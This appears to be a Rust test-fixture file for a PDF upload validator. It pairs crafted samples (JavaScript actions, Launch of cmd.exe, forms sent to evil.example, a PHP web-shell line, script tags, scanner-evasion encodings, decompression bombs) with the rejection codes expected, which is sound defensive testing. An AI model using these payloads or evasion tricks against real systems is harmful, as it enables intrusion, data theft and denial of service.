//! One declaration of each kind of attack or defect.

use gridbill_core::Code::{self, *};
use gridbill_core::registration::declaration::FileKind::{self, *};
use gridbill_core::registration::declaration::MAX_BYTES;

use super::files::*;
use super::pictures;

pub struct Class {
    pub name: &'static str,
    pub file: Vec<u8>,
    pub expected: Result<FileKind, Code>,
}

pub type Line = (&'static str, Vec<u8>, Result<FileKind, Code>);

pub fn all() -> Vec<Class> {
    let lines = others().into_iter().chain(honest()).chain(active()).chain(hidden()).chain(broken()).chain(long());
    let lines = lines.chain(pictures::pngs()).chain(pictures::jpegs());
    lines.map(|(name, file, expected)| Class { name, file, expected }).collect()
}

fn others() -> Vec<Line> {
    vec![
        ("nothing", Vec::new(), Err(FileEmpty)),
        ("one byte", vec![b'%'], Err(FileKindUnknown)),
        ("zeros", vec![0; 3_000], Err(FileKindUnknown)),
        ("a text", b"I, the undersigned, declare".to_vec(), Err(FileKindUnknown)),
        ("a page named pdf", b"<html><script>alert(1)</script></html>".to_vec(), Err(FileKindUnknown)),
        ("an svg", br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#.to_vec(), Err(FileKindUnknown)),
        ("a docx", archive("word/document.xml", b""), Err(FileKindOther)),
        ("a document with macros", archive("word/vbaProject.bin", b""), Err(FileKindOther)),
        (
            "an old document",
            [&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], &[0; 600][..]].concat(),
            Err(FileKindOther),
        ),
        ("a windows program", [b"MZ\x90\0\x03", &[0; 600][..]].concat(), Err(FileKindUnknown)),
        ("a linux program", [b"\x7fELF\x02\x01\x01", &[0; 600][..]].concat(), Err(FileKindUnknown)),
        ("a gif", b"GIF89a\x01\0\x01\0\0\0\0;".to_vec(), Err(FileKindOther)),
        (
            "a gif that is a program",
            [&b"GIF89a\x01\0\x01\0\0\0\0;"[..], &archive("A.class", b"")].concat(),
            Err(FileKindOther),
        ),
        ("a tiff", b"II*\0\x08\0\0\0\0\0".to_vec(), Err(FileKindOther)),
        ("a webp", b"RIFF\x1a\0\0\0WEBPVP8L".to_vec(), Err(FileKindOther)),
        ("a heic", b"\0\0\0\x18ftypheic\0\0\0\0".to_vec(), Err(FileKindOther)),
        ("postscript", b"%!PS-Adobe-3.0\n(x) show\n%%EOF\n".to_vec(), Err(FileKindOther)),
        ("as large as may be", [pdf(), vec![b' '; MAX_BYTES - pdf().len()]].concat(), Ok(Pdf)),
        ("one byte more", [pdf(), vec![b' '; MAX_BYTES + 1 - pdf().len()]].concat(), Err(FileTooLarge)),
    ]
}

/// Ordinary files, as users send them.
fn honest() -> Vec<Line> {
    let dos = String::from_utf8(pdf_with("(a line)").split_off(15)).unwrap().replace('\n', "\r");
    vec![
        ("a plain pdf", pdf(), Ok(Pdf)),
        ("a pdf of version 2", [b"%PDF-2.0", &pdf()[8..]].concat(), Ok(Pdf)),
        ("with lines as old computers end them", [&pdf()[..15], dos.as_bytes()].concat(), Ok(Pdf)),
        (
            "a link",
            pdf_with("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://sinar.example) >> >>"),
            Ok(Pdf),
        ),
        (
            "opened at a page",
            pdf_of("<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] >>", &[]),
            Ok(Pdf),
        ),
        (
            "a signature field",
            pdf_with("<< /FT /Sig /T (Signature) /V << /Type /Sig /ByteRange [0 9 9 9] >> >>"),
            Ok(Pdf),
        ),
        ("packed objects", pdf_packed("<< /Type /Font /BaseFont /JSerif >>"), Ok(Pdf)),
        (
            "objects that are not packed",
            pdf_packed_as("/Type /ObjStm /N 1 /First 5", b"9 0  << /Type /Font >>"),
            Ok(Pdf),
        ),
        (
            "short names in packed bytes",
            pdf_of(CATALOG, &[stream("/Filter /DCTDecode", b"\xff\xd8 /JS /AA \x01")]),
            Ok(Pdf),
        ),
        ("short names in a text", pdf_with("(see /JS and /AA \\) of it (or not))"), Ok(Pdf)),
        (
            "comments of a person",
            pdf_with(
                "<< /Subtype /FreeText /RC (<?xml version=\"1.0\"?><body xmlns=\"http://www.w3.org/1999/xhtml\"><p>ok</p></body>) >>",
            ),
            Ok(Pdf),
        ),
        (
            "what it says of itself",
            pdf_of(
                CATALOG,
                &[stream(
                    "/Type /Metadata /Subtype /XML",
                    b"<?xpacket begin=''?><x:xmpmeta xmlns:x='adobe:ns:meta/'/> 1 object",
                )],
            ),
            Ok(Pdf),
        ),
        (
            "a pdf changed later",
            [pdf(), b"4 0 obj\n(more)\nendobj\nxref\n0 0\ntrailer << /Root 1 0 R >>\nstartxref\n15\n%%EOF\n".to_vec()]
                .concat(),
            Ok(Pdf),
        ),
        ("something harmless behind it", [pdf(), b"\r\n\0\0 -- scanned by a machine".to_vec()].concat(), Ok(Pdf)),
    ]
}

/// Content that acts on its own.
fn active() -> Vec<Line> {
    let action = |action: &str| pdf_of(&format!("<< /Type /Catalog /Pages 2 0 R /OpenAction << {action} >> >>"), &[]);
    let refused = |name, file| (name, file, Err(FileHasScripts));
    vec![
        refused("a script", action("/S /JavaScript /JS (app.alert\\(1\\))")),
        refused("a script of escaped letters", action("/S /J#61v#61Script /#4a#53 (x)")),
        refused("a script all of escapes", action("/S /#4A#61#76#61#53#63#72#69#70#74 /#4a#53 (x)")),
        refused("only the script", action("/JS (x)")),
        refused("a program started", action("/S /Launch /F (cmd.exe)")),
        refused("a form that is sent", action("/S /SubmitForm /F (https://evil.example)")),
        refused("a form that is filled", action("/S /ImportData /F (x.fdf)")),
        refused("a file of another computer", action("/S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit]")),
        refused("a file in a file opened", action("/S /GoToE /D [0 /Fit]")),
        refused("a film", action("/S /Rendition /OP 0")),
        refused("a form of its own", pdf_with("<< /AcroForm << /XFA 9 0 R >> >>")),
        refused("an attachment", pdf_with("<< /Type /EmbeddedFile /Length 0 >>")),
        refused("an attachment as a note", pdf_with("<< /Subtype /FileAttachment >>")),
        refused("flash", pdf_with("<< /Subtype /RichMedia >>")),
        refused("a scene with its script", pdf_with("<< /Subtype /3D /3DD 9 0 R >>")),
        refused("an action when it is left", pdf_with("<< /AA << /O 9 0 R >> >>")),
        refused("a script in a text", pdf_with("(/JavaScript )")),
        refused("a script behind the end", [pdf(), b"\n5 0 obj << /S /JavaScript >> endobj\n%%EOF".to_vec()].concat()),
    ]
}

/// The same content in places where it is hard to find.
fn hidden() -> Vec<Line> {
    let script = "<< /S /JavaScript /JS (x) >>";
    let objects = packed(format!("9 0  {script}").as_bytes());
    let unseen = |dictionary: &str| pdf_packed_as(dictionary, &objects);
    let in_stream = |data: &str| pdf_of(CATALOG, &[stream("/Filter /DCTDecode", data.as_bytes())]);
    let between = |text: &str| {
        let object = format!(
            "<< /Type /ObjStm /N 1 /First 5 {text} /Filter /FlateDecode /Length {} >>\nstream\n",
            objects.len()
        );
        pdf_of(CATALOG, &[[object.as_bytes(), &objects, b"\nendstream"].concat()])
    };
    let after = |head: &[u8]| {
        let file = [
            b"%PDF-1.7\n",
            head,
            b"<< /N 1 /First 5 /Filter /FlateDecode >> stream\r\n",
            &objects,
            b"\nendstream endobj\n",
        ]
        .concat();
        let table = file.len();
        [&file[..], format!("xref\n0 0\ntrailer << /Root 1 0 R >>\nstartxref\n{table}\n%%EOF").as_bytes()].concat()
    };
    vec![
        ("a script packed away", pdf_packed(script), Err(FileHasScripts)),
        ("a short script packed away", pdf_packed("<< /JS 7 0 R >>"), Err(FileHasScripts)),
        ("packed without saying so", unseen("/N 1 /First 5 /Filter /FlateDecode"), Err(FileHasScripts)),
        ("packed with escapes", unseen("/#4e 1 /F#69rst 5 /Filt#65r [/Fl#61teDecode]"), Err(FileHasScripts)),
        ("packed twice", unseen("/N 1 /First 5 /Filter [/FlateDecode /FlateDecode]"), Err(FileCannotBeChecked)),
        (
            "packed in hexadecimals",
            unseen("/N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]"),
            Err(FileCannotBeChecked),
        ),
        ("packed as old programs do", unseen("/N 1 /First 5 /Filter /LZWDecode"), Err(FileCannotBeChecked)),
        ("packed by a short name", unseen("/N 1 /First 5 /Filter /Fl"), Err(FileCannotBeChecked)),
        ("packed in a way named elsewhere", unseen("/N 1 /First 5 /Filter 7 0 R"), Err(FileCannotBeChecked)),
        ("packed as a picture", unseen("/N 1 /First 5 /Filter /JBIG2Decode"), Err(FileCannotBeChecked)),
        (
            "packed as differences",
            unseen("/N 1 /First 5 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
            Err(FileCannotBeChecked),
        ),
        ("packed in another file", unseen("/N 1 /First 5 /F (x) /FFilter /FlateDecode"), Err(FileCannotBeChecked)),
        (
            "packed and not whole",
            pdf_packed_as("/N 1 /First 5 /Filter /FlateDecode", &objects[..objects.len() / 2]),
            Err(FileCannotBeChecked),
        ),
        (
            "packed and something else",
            pdf_packed_as("/N 1 /First 5 /Filter /FlateDecode", b"not packed at all"),
            Err(FileCannotBeChecked),
        ),
        ("an end in a text", between("/X (endobj)"), Err(FileHasScripts)),
        ("a beginning in a text", between("/X (1 0 obj)"), Err(FileHasScripts)),
        ("a stream in a text", between("/X (\nstream\n)"), Err(FileHasScripts)),
        ("an end in a comment", between("% endobj stream\n"), Err(FileHasScripts)),
        ("brackets in a text", between("/X (\\) ( \\\\) >> stream)"), Err(FileHasScripts)),
        ("text that never ends before it", after(b"1 0 obj ( endobj 5 0 obj"), Err(FileHasScripts)),
        ("a comment within its number", after(b"5 0 % comment\nobj"), Err(FileHasScripts)),
        ("no space after its number", after(b"5 0obj"), Err(FileHasScripts)),
        ("a script within a picture", in_stream("5 0 obj << /S /JavaScript >> endobj"), Err(FileHasScripts)),
        (
            "packed within a picture",
            pdf_of(CATALOG, &[stream("/Filter /DCTDecode", &after(b"5 0 obj"))]),
            Err(FileHasScripts),
        ),
        ("a password", pdf_with_trailer("/Encrypt 9 0 R "), Err(FileIsProtected)),
        ("a password with escapes", pdf_with_trailer("/#45ncrypt 9 0 R "), Err(FileIsProtected)),
    ]
}

fn broken() -> Vec<Line> {
    let file = pdf();
    let text = String::from_utf8_lossy(&file).into_owned();
    let table = file.windows(10).rposition(|window| window == b"startxref\n").unwrap() + 10;
    let pointing = |place: &str| [&file[..table], place.as_bytes(), b"\n%%EOF\n"].concat();
    let tail = "\nstartxref\n0\n%%EOF\n";
    vec![
        ("a head only", b"%PDF-1.7\n".to_vec(), Err(FileDamaged)),
        ("a version to come", [b"%PDF-9.0", &file[8..]].concat(), Err(FileKindUnknown)),
        ("something before the head", [b"\n", &file[..]].concat(), Err(FileKindUnknown)),
        ("cut in half", file[..file.len() / 2].to_vec(), Err(FileDamaged)),
        ("without its end", file[..file.len() - 6].to_vec(), Err(FileDamaged)),
        ("no place of its table", text.replace("startxref", "startxxxx").into_bytes(), Err(FileDamaged)),
        ("a table behind the end", pointing("99999999"), Err(FileDamaged)),
        ("a table larger than numbers are", pointing("99999999999999999999999999"), Err(FileDamaged)),
        ("a table before the beginning", pointing("-1"), Err(FileDamaged)),
        ("a table that is none", pointing("3"), Err(FileDamaged)),
        ("nothing to begin with", text.replace("/Root", "/Rood").into_bytes(), Err(FileDamaged)),
        (
            "a root behind the end",
            (text.replace("/Root", "/Rood") + "\n<< /Root 1 0 R >>").into_bytes(),
            Err(FileDamaged),
        ),
        (
            "a page with a pdf's head",
            [b"%PDF-1.7\n<html><script>alert(1)</script>", tail.as_bytes()].concat(),
            Err(FileDamaged),
        ),
        ("a page in a comment", pdf_with("% <html><body><script>alert(1)</script>\nnull"), Err(FileHasMore)),
        ("a page in a text", pdf_with("(<SCRIPT src=//evil.example></SCRIPT>)"), Err(FileHasMore)),
        ("a page behind the end", [&file[..], b"<!DOCTYPE html><p>"].concat(), Err(FileHasMore)),
        ("a program in a stream", pdf_of(CATALOG, &[stream("", b"<?php system($_GET[1]); ?>")]), Err(FileHasMore)),
        ("an svg in a stream", pdf_of(CATALOG, &[stream("", b"<svg onload=alert(1)>")]), Err(FileHasMore)),
        ("an archive behind the end", [&file[..], &archive("A.class", b"")].concat(), Err(FileHasMore)),
        (
            "an archive around the end",
            pdf_of(CATALOG, &[stream("", &archive("A.class", b"\nendstream\n"))]),
            Err(FileHasMore),
        ),
    ]
}

/// Files that could take long to check.
fn long() -> Vec<Line> {
    let filled = |piece: &str| {
        let file = pdf();
        let (head, tail) = file.split_at(15);
        let count = (MAX_BYTES - file.len() - 100) / piece.len();
        let table = tail.windows(5).position(|window| window == b"xref\n").unwrap() + 15 + count * piece.len();
        let end = format!("xref\n0 0\ntrailer << /Root 1 0 R >>\nstartxref\n{table}\n%%EOF");
        let body = &tail[..tail.windows(5).position(|window| window == b"xref\n").unwrap()];
        [head, piece.repeat(count).as_bytes(), body, end.as_bytes()].concat()
    };
    let zeros = |count: usize| packed(&vec![b' '; count]);
    let objects = "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode";
    vec![
        ("slashes", filled("/"), Ok(Pdf)),
        ("escapes", filled("/#4a#53#"), Ok(Pdf)),
        ("objects in objects", filled("1 0 obj "), Err(FileCannotBeChecked)),
        ("texts in texts", filled("1 0 obj("), Err(FileCannotBeChecked)),
        ("dictionaries in dictionaries", filled("<<"), Ok(Pdf)),
        ("objects that are none", filled("obj "), Ok(Pdf)),
        ("ends", filled("%%EOF "), Ok(Pdf)),
        ("tags", filled("<scrip <"), Ok(Pdf)),
        ("comments and objects", filled("%\nobj "), Err(FileCannotBeChecked)),
        ("streams", filled("1 0 obj<</First 1>>stream\nendstream endobj\n"), Ok(Pdf)),
        ("a bomb", pdf_packed_as(objects, &zeros(200 << 20)), Err(FileCannotBeChecked)),
        ("many small bombs", pdf_of(CATALOG, &vec![stream(objects, &zeros(1 << 20)); 40]), Err(FileCannotBeChecked)),
        ("a bomb that is a picture", pdf_of(CATALOG, &[stream("/Filter /FlateDecode", &zeros(200 << 20))]), Ok(Pdf)),
    ]
}
